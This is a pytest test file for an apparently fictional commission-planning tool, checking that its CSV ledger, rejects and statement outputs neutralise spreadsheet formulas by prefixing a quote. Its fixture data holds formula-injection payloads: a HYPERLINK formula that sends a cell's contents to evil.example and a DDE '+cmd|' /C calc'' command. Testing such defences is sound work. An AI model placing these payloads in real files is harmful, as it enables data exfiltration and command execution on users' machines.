"""CSV files spm writes keep a spreadsheet from reading a cell as a formula (=HYPERLINK(...) and the like)."""

from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet as pq
import pytest
from helpers import quarterly_plan

import spmlang
from spmlang.spreadsheet import from_spreadsheet_text, spreadsheet_text
from spmlang.verify import verify

PLAN = quarterly_plan(
    "Formulas",
    """component commission {
  rate 10%
}
""",
)

LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
DEALS = [
    ("@SUM(1+1)", LINK, "2027-01-10", "1000"),
    ("-5", "+cmd|' /C calc'!A0", "2027-02-10", "-300"),  # a refund, in a key that is a plain number
    ("D3", "-ann", "2027-02-11", "2000"),
    ("D4", "bob", "2026-12-31", "500"),
]  # rejected: outside the plan year
REJECTED_KEY = "D4"


@pytest.fixture
def workspace(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "plan.spm").write_text(PLAN)
    with open(tmp_path / "deals.csv", "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "rep", "day", "amount"])
        writer.writerows(DEALS)
    return tmp_path


def read_csv(path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(), newline="")))


def test_the_rule():
    assert [
        spreadsheet_text(t)
        for t in (
            "=1+1",
            "+cmd",
            "-ann",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "-12.50",
            "+3",
            "-1,234.50",
            "1e5",
            "alice",
            "",
            "'=x",
        )
    ] == [
        "'=1+1",
        "'+cmd",
        "'-ann",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "-12.50",
        "+3",
        "-1,234.50",
        "1e5",
        "alice",
        "",
        "'=x",
    ]
    for text in ("=1+1", "-12.50", "alice", "\tx", "'x"):
        assert from_spreadsheet_text(spreadsheet_text(text)) == text


def test_ledger_and_rejects_csv_quote_formulas_and_keep_numbers(workspace):
    result = spmlang.load("plan.spm").run("deals.csv")
    result.write(workspace / "ledger.csv", rejects=workspace / "rejects.csv")
    ledger = read_csv(workspace / "ledger.csv")
    payees = {line["payee"] for line in ledger}
    assert payees == {"'" + LINK, "'+cmd|' /C calc'!A0", "'-ann"}
    assert {line["txn"] for line in ledger if line["kind"] == "earning"} == {"'@SUM(1+1)", "-5", "D3"}
    refund = next(line for line in ledger if line["txn"] == "-5")
    assert refund["amount"] == "-30.00" and refund["credit"] == "-300.00"  # numbers stay numbers
    assert refund["explanation"].startswith("'-300.00")  # text that starts with '-' and is no number
    rejects = read_csv(workspace / "rejects.csv")
    assert [(r["row"], r["key"]) for r in rejects] == [("5", REJECTED_KEY)]
    # the ledger as parquet and JSON keeps the data as it is (each under a name of its own: see its manifest)
    result.write(workspace / "as-parquet.parquet")
    assert set(pq.read_table(workspace / "as-parquet.parquet").column("payee").to_pylist()) == {
        LINK,
        "+cmd|' /C calc'!A0",
        "-ann",
    }
    result.write(workspace / "as-json.json")
    assert {line["payee"] for line in json.loads((workspace / "as-json.json").read_text())} == {
        LINK,
        "+cmd|' /C calc'!A0",
        "-ann",
    }


def test_rejects_csv_quotes_a_formula_in_a_key(workspace):
    with open(workspace / "deals.csv", "a", newline="") as handle:
        csv.writer(handle).writerow(["=1+2", "bob", "2028-01-05", "10"])
    result = spmlang.load("plan.spm").run("deals.csv")
    result.write(workspace / "ledger.csv", rejects=workspace / "rejects.csv")
    assert [r["key"] for r in read_csv(workspace / "rejects.csv")] == [REJECTED_KEY, "'=1+2"]


def test_a_csv_ledger_with_quoted_cells_is_verified_and_its_totals_compared(workspace):
    ledger = spmlang.load("plan.spm").run("deals.csv").write(workspace / "ledger.csv")
    assert verify(ledger).identical
    (workspace / "deals.csv").write_text((workspace / "deals.csv").read_text().replace("1000", "2000"))
    outcome = verify(ledger)
    assert not outcome.identical
    # payees as the run names them: the quote is the file's, not the name's
    assert [(payee, str(before), str(after)) for payee, _, before, after in outcome.changed_totals] == [
        (LINK, "100.00", "200.00")
    ]


def test_statement_csv_quotes_formulas(spm, workspace):
    result = spm("statement", "plan.spm", "--deals", "deals.csv", "--out", "statements", cwd=workspace)
    assert result.returncode == 0, result.stderr
    (statement,) = [path for path in (workspace / "statements").rglob("*.csv") if "HYPERLINK" in path.parent.name]
    rows = read_csv(statement)
    assert rows[0]["txn"] == "'@SUM(1+1)" and rows[0]["amount"] == "100.00"
    assert rows[-1]["section"] == "payout" and rows[-1]["amount"] == "100.00"
